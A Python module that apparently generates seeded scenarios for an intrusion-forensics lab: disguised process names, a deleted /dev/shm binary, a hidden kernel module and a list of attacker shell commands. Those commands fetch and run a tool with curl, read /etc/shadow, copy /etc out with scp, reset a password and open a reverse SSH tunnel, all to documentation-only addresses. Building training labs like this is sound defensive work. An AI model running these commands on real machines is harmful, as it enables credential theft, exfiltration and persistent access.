"""What is planted on a machine: names, ports, paths and markers drawn from the seed, from words that look at home."""

from __future__ import annotations

import random
from dataclasses import dataclass

_FIRST = ("cache", "disk", "event", "index", "log", "mail", "node", "pack", "queue", "stat", "store", "usage")
_SECOND = ("ctl", "feed", "guard", "mon", "pipe", "relay", "scan", "sync", "watch", "wrk")
_ROLES = ("web", "db", "mail", "build", "proxy", "files", "queue", "app")
_TOOLS = ("stage2", "kit", "loader", "update", "agent", "rc", "implant", "beacon")
_KWORKERS = ("events", "mm_percpu_wq", "rcu_gp", "writeback", "kblockd", "cgroup_destroy")
_FOLDERS = ("spool", "archive", "outbox", "staging", "journal", "export")
_NETWORKS = ("192.0.2", "198.51.100", "203.0.113")  # RFC 5737: they belong to nobody


@dataclass(frozen=True, slots=True)
class Plan:
    """Every name and number of one lab."""

    hostname: str
    machine_id: str
    service: str  # the unit that starts what is planted
    deleted_path: str
    deleted_arguments: tuple[str, ...]
    marker: str
    marker_variable: str
    forged_path: str
    forged_comm: str
    forged_arguments: str
    listener: str
    port: int
    commands: tuple[str, ...]
    writer: str
    writer_file: str
    writer_pattern: str
    block_bytes: int
    blocks: int  # a burst
    pause: int  # seconds between bursts
    victim: str
    victim_limit: int  # MiB
    hidden: str  # the process that ps leaves out
    module: str  # the kernel module that hides
    benign: tuple[str, ...]  # names for the near misses
    benign_commands: tuple[str, ...]

    @property
    def burst_bytes(self) -> int:
        """What the writer writes at a time."""
        return self.block_bytes * self.blocks

    @property
    def hidden_path(self) -> str:
        """Where the program stands that ps leaves out."""
        return f"/usr/local/sbin/{self.hidden}"

    @property
    def folder(self) -> str:
        """Where on the machine the incident keeps its own."""
        return f"/usr/local/lib/{self.service}"


def draw(seed: int) -> Plan:
    """Draw the plan of a seed: the same seed, the same plan."""
    dice = random.Random(seed)  # noqa: S311 - names, not secrets
    names = [first + second for first in _FIRST for second in _SECOND]
    dice.shuffle(names)
    marker = f"{dice.choice(_TOOLS)}-{_hex(dice, 24)}"
    relay = f"{_address(dice)}:{dice.choice((443, 4444, 8080, 8443, 9001))}"
    kworker = f"kworker/{dice.randrange(2)}:{dice.randrange(2, 9)}"
    return Plan(
        hostname=f"{dice.choice(_ROLES)}-{_hex(dice, 2)}",
        machine_id=_hex(dice, 32),
        service=names.pop(),
        deleted_path=f"/dev/shm/.{names.pop()}",  # noqa: S108 - where intruders put it
        deleted_arguments=("--relay", relay, "--id", marker),
        marker=marker,
        marker_variable=dice.choice(("SESSION_KEY", "AGENT_ID", "NODE_TOKEN", "XFER_TAG")),
        forged_path=f"/var/tmp/.{_hex(dice, 6)}/{names.pop()}",  # noqa: S108
        forged_comm=kworker,
        forged_arguments=f"[{kworker}-{dice.choice(_KWORKERS)}]",
        listener=names.pop(),
        port=dice.randrange(20000, 32000),
        commands=_commands(dice),
        writer=names.pop(),
        writer_file=f"/var/lib/{names.pop()}/{dice.choice(_FOLDERS)}-{_hex(dice, 4)}.bin",
        writer_pattern=_hex(dice, 32),
        block_bytes=dice.choice((4096, 8192, 16384)),
        blocks=dice.choice((120, 128, 144)),
        pause=2,
        victim=names.pop(),
        victim_limit=dice.choice((24, 28, 32)),
        hidden=names.pop(),
        module=names.pop(),
        benign=tuple(names[:6]),
        benign_commands=("uptime", "df -h /", "systemctl status cron", f"less /etc/{names[7]}.conf", "ip -br address"),
    )


def _hex(dice: random.Random, digits: int) -> str:
    return f"{dice.getrandbits(4 * digits):0{digits}x}"


def _address(dice: random.Random) -> str:
    return f"{dice.choice(_NETWORKS)}.{dice.randrange(2, 250)}"


def _commands(dice: random.Random) -> tuple[str, ...]:
    server, tool, folder = _address(dice), dice.choice(_TOOLS), f"/dev/shm/.{_hex(dice, 6)}"  # noqa: S108
    password = _hex(dice, 10)
    choices = [
        "cat /etc/shadow",
        f"tar czf {folder}/etc.tgz /etc",
        f"scp {folder}/etc.tgz drop@{_address(dice)}:/srv/in/",
        f"echo 'ops:{password}' | chpasswd",
        f"find / -xdev -name '*.pem' -newermt 2026-0{dice.randrange(1, 9)}-01",
        f"ssh -fN -R {dice.randrange(20000, 60000)}:127.0.0.1:22 drop@{_address(dice)}",
    ]
    chosen = dice.sample(choices, 3)
    fetch = (f"mkdir -p {folder}", f"curl -fso {folder}/{tool} http://{server}/{_hex(dice, 8)}/{tool}")
    return ("unset HISTFILE", *fetch, f"chmod 700 {folder}/{tool}", *chosen, f"rm -rf {folder}")
